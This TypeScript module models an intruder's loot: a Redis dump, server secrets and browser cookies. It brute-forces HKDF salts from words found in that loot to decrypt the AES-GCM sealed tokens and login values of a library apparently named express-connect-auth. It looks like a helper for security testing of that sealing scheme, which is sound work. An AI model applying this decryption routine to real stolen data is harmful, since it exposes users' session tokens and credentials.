import { createDecipheriv, hkdfSync } from 'node:crypto';

/** What somebody holds who broke in. */
export interface Loot {
  /** Every key and value of Redis, as text. */
  dump: string;
  secrets: readonly string[];
  /** Whatever else there is, such as a browser's cookies. */
  more?: readonly string[];
}

const PURPOSES = ['tokens', 'login'] as const;
const JWE = /(eyJ[\w-]+)\.\.([\w-]{16})\.([\w-]+)\.([\w-]{22})/g;

/**
 * Tries to open every sealed value in a dump, as the library's documents say that it is sealed: by each secret,
 * salted with each word of the loot and with each pair of them that could be a state and its binding.
 */
export function openEverything({ dump, secrets, more = [] }: Loot): unknown[] {
  const sealed = [...dump.matchAll(JWE)];
  const opened: unknown[] = [];
  for (const secret of secrets) {
    for (const salt of findSalts([dump, ...more])) {
      for (const purpose of PURPOSES) {
        const key = Buffer.from(hkdfSync('sha256', secret, salt, `express-connect-auth ${purpose}`, 32));
        opened.push(...sealed.map((jwe) => decrypt(jwe, key)).filter((value) => value !== undefined));
      }
    }
  }
  return opened;
}

function decrypt([, header, iv, content, tag]: RegExpMatchArray, key: Buffer): unknown {
  const cipher = createDecipheriv('aes-256-gcm', key, Buffer.from(iv!, 'base64url'));
  cipher.setAAD(Buffer.from(header!)).setAuthTag(Buffer.from(tag!, 'base64url'));
  try {
    return JSON.parse(`${cipher.update(content!, 'base64url', 'utf8')}${cipher.final('utf8')}`);
  } catch {
    return undefined;
  }
}

function findSalts(texts: readonly string[]): Set<string> {
  const words = new Set(texts.flatMap((text) => text.replace(JWE, ' ').match(/[\w-]{16,}/g) ?? []));
  const pairs = [...words].flatMap((first) => [...words].map((second) => `${first}.${second}`));
  return new Set(['', ...words, ...pairs]);
}
